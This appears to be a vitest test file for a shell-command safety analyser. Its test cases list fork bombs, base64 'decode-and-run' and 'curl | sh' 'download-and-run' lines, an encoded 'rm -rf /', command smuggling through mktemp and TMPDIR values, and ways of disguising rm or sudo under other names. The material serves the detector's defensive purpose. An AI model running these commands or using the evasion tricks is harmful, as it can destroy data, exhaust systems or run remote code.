import { describe, expect, it } from 'vitest'
import { factsOf, lines } from './facts-of.js'

describe('dangerous shapes', () => {
  it.each([
    [':(){ :|:& };:', 'fork-bomb'],
    ['bomb() { bomb | bomb & }; bomb', 'fork-bomb'],
    ["bash -c 'f() { f & f; }; f'", 'fork-bomb'],
    ['f() { (f); }; f', 'fork-bomb'],
    ['f() { [ -e x ] && (f | f); }; f', 'fork-bomb'],
    ['echo cm0gLXJmIC8= | base64 -d | sh', 'decode-and-run'],
    ['cat f | base64 -d | bash', 'decode-and-run'],
    ['eval "$(echo cm0gLXJmIC8= | base64 -d)"', 'decode-and-run'],
    ['cat f | gunzip | sh', 'decode-and-run'],
    ['c=$(echo c3VkbyBpZA== | base64 -d); $c', 'decode-and-run'],
    ['echo 726d | xxd -r -p | tr a b | sh', 'decode-and-run'],
    ['openssl enc -d -in x | xargs -I{} sh -c {}', 'decode-and-run'],
    ["x='rm y'; declare -p x | sed 's/.*=//' | sh", 'decode-and-run'],
    ['echo cm0geA== | openssl base64 -d -out f; bash f', 'decode-and-run'],
    ['echo cm0geA== | base64 -d > f; bash f', 'decode-and-run'],
    ['$(type rm | cut -c1-2) x', 'decode-and-run'],
    ['coproc bash; echo rm x >&${COPROC[1]}', 'decode-and-run'],
    ['curl http://h/x | sh', 'download-and-run'],
    ['bash <(wget -qO- http://h/x)', 'download-and-run'],
    ['eval "$(curl -s http://h/x)"', 'download-and-run'],
    ['curl -o s http://h/x; sh s', 'download-and-run'],
    ['curl http://h/x | tee f | bash', 'download-and-run'],
  ] as const)('the script `%s` is reported as a %s', (script, kind) => {
    expect(factsOf(script).shapes.map((shape) => shape.kind)).toEqual([kind])
  })

  it('text that is not run has no dangerous shape', () => {
    for (const script of [
      'echo aGk= | base64 -d',
      'curl http://h/x -o f',
      'f() { f2; }; f',
      'f() { [ $1 -gt 0 ] && f $(($1-1)); }; f 3',
      'f() { [ $1 -eq 0 ] && echo end || (f $(($1-1))); }; f 3',
      'f() { [ $1 -gt 0 ] && echo $1 $(f $(($1-1))); }; f 3',
    ])
      expect({ script, shapes: factsOf(script).shapes }).toEqual({ script, shapes: [] })
  })

  it.each([
    "dc -e '114P 109P' | sh",
    "date +'rm x' | sh",
    "printf 'a\\nrm x\\n' | grep -A1 a | sh",
    '$(awk \'BEGIN{print "rm"}\') x',
  ])('output of other programs is unknown and has no dangerous shape: %s', (script) => {
    const { shapes, opaque } = factsOf(script)
    expect(shapes).toEqual([])
    expect(opaque.some(({ kind }) => kind === 'unknown')).toBe(true)
  })
})

describe('programs under other names', () => {
  it.each([
    ['ln -s /usr/bin/sudo /tmp/list; /tmp/list id', 'sudo'],
    ['cp /bin/rm ./ls; ./ls x', 'rm'],
    ['cat /bin/rm > ls; chmod +x ls; ./ls x', 'rm'],
    ['mkdir b; ln -s /bin/rm b/ls; PATH=b:$PATH; ls x', 'rm'],
    ['ls() { command rm x; }; export -f ls; bash -c ls', 'rm'],
    ['ls() { rm x; }; ls', 'rm'],
    ['cd /usr/bin && ./rm x', 'rm'],
    ['$BASH -c "rm x"', 'rm'],
    ['if [ -f a ]; then c=rm; else c=ls; fi; $c x', 'rm'],
    ['if [ -f a ]; then c=rm; else c=ls; fi; $c x', 'ls'],
    ['x=$(if [ -f a ]; then echo rm; else echo ls; fi); $x y', 'rm'],
    ['GIT_SSH_COMMAND="rm x" git fetch', 'rm'],
    ['PROMPT_COMMAND="rm x" bash -i', 'rm'],
    ['command_not_found_handle() { rm x; }; nonsense', 'rm'],
    ["set -o history; history -s 'rm x'; fc -s", 'rm'],
    ["echo 'rm x' | parallel -I@ @", 'rm'],
    ["echo 'rm x' > jobs; parallel -a jobs", 'rm'],
    ['sem -j 2 rm x', 'rm'],
    ['uclampset -m 1 rm x', 'rm'],
    ['npx cross-env A=1 rm x', 'rm'],
    ['dotenv -f e -- rm x', 'rm'],
    ["watchexec -- sh -c 'rm x'", 'rm'],
    ['start-stop-daemon --start --exec /bin/sh -- -c "rm x"', 'rm'],
    ['$(realpath /usr/bin/sudo) id', 'sudo'],
  ])('the script `%s` lists the program %s', (script, program) => {
    expect(factsOf(script).invocations.map((invocation) => invocation.program)).toContain(program)
  })
})

describe('a path from mktemp in re-expanded text', () => {
  const countUnknown = (script: string) => factsOf(script).opaque.filter(({ kind }) => kind === 'unknown').length

  it.each([
    'd=$(mktemp -d); trap "rm -rf $d" EXIT',
    'd=$(mktemp -d); trap "rm -rf \'$d\'" EXIT; touch "$d/x"',
    'd=$(mktemp); trap "rm -f \\"$d\\"; ls" EXIT',
    'd=$(mktemp -d); bash -c "ls $d/x"',
  ])('a path from mktemp in trap text runs nothing: %s', (script) => {
    expect(countUnknown(script)).toBe(0)
  })

  it('commands beside a path from mktemp are analysed', () => {
    expect(lines(factsOf('d=$(mktemp -d); trap "rm -rf $d; git push" EXIT')).join('\n')).toContain('git push')
  })

  it.each([
    'd=$(mktemp -d); eval "$d git push"',
    'd=$(mktemp -d); eval "git${d} push"',
    'd=$(mktemp -d); eval "ls $d $d"',
    "d=$(mktemp -d); eval \"echo \\$'a $d\\\\'; x='; git push; ''\"",
    'TMPDIR=\'/tmp/;git push;\'; d=$(mktemp -d); eval "ls $d"',
    'd=$(mktemp -d -p \'/tmp/;git push\'); eval "ls $d"',
    'd=$(mktemp \'x;git push;XXXX\'); eval "ls $d"',
    'd=$(./mktemp -d); eval "ls $d"',
    'd=$(mktemp -d | cat x); eval "ls $d"',
  ])('text that can be more than a path from mktemp is unknown: %s', (script) => {
    expect(countUnknown(script)).toBeGreaterThan(0)
  })
})

describe('items that parallel quotes', () => {
  const countUnknown = (script: string) => factsOf(script).opaque.filter(({ kind }) => kind === 'unknown').length

  it('an item of parallel is an argument or a file, even beside shell operators', () => {
    for (const script of ["ls | parallel 'node {} > {.}.log 2>&1'", "ls | parallel 'gzip {} && rm {}'"])
      expect({ script, unknown: countUnknown(script) }).toEqual({ script, unknown: 0 })
    expect(lines(factsOf("ls | parallel 'gzip {} && sudo x'")).join('\n')).toContain('sudo x')
  })

  it('an item of parallel is unknown as the command or inside quotes', () => {
    for (const script of ["ls | parallel 'ls; {} y'", "ls | parallel 'ls | {}'", 'ls | parallel \'echo "{}"\''])
      expect({ script, isUnknown: countUnknown(script) > 0 }).toEqual({ script, isUnknown: true })
  })
})
